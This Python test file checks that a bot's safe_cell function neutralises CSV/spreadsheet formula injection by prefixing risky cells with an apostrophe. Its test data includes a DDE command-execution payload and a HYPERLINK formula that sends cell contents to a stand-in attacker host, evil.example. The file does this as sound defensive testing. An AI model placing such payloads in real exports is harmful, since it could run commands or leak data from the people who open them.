"""What people and models write is no formula in the spreadsheet of whoever opens an export."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.reading import safe_cell

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?d="&A1,"Factuur")', "+31 6 12345678",
    "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\x0c=1+1", "\u3000=1+1", "\x85 =1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
]  # fmt: skip


@pytest.mark.parametrize("written", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_work_out_is_text(written: str) -> None:
    """An apostrophe before it: Excel and LibreOffice show it as it was written, and fetch nothing."""
    assert safe_cell(written) == f"'{written}"


@pytest.mark.parametrize("written", ["Bakker = Jansen", "1+1", "", "a@b.nl", "3-delig", "'t Hof", "€ -5"])
def test_other_words_are_left_alone(written: str) -> None:
    """No apostrophe where nothing could be worked out."""
    assert safe_cell(written) == written


@given(st.text(max_size=20))
@example("\x0c=")
def test_no_cell_begins_as_a_formula_does(written: str) -> None:
    """Whatever it is, and after the way through a CSV file too."""
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerow([safe_cell(written)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"), [""])

    assert not cell.strip().startswith(("=", "+", "-", "@"))
